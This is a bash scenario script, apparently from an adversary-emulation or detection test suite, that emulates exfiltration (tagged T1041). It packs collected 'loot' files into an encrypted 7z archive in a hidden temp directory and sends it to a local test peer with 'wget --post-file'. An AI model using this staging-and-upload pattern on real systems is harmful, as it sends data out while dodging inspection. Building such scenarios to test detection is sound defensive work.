#!/usr/bin/env bash
# Staging + exfiltration: a password-protected 7z archive in a hidden directory, then
# `wget --post-file` to the peer.
. "$(dirname "$0")/../lib.sh"
scn_begin exfil-7z-wget T1041
scn_require 7z wget
scn_http_peer
scn_loot
scn_tmpdir stage /tmp .scn-stage-
7z a -bd -bso0 -pscn -mhe=on "$stage/.d.7z" "$SCN_LOOT/." >/dev/null
scn_run_key wget -q -T 10 -O /dev/null --post-file="$stage/.d.7z" "$SCN_URL/up"
cmp -s "$SCN_WORK/srv/upload-1" "$stage/.d.7z" || scn_fail "the upload differs from the archive"
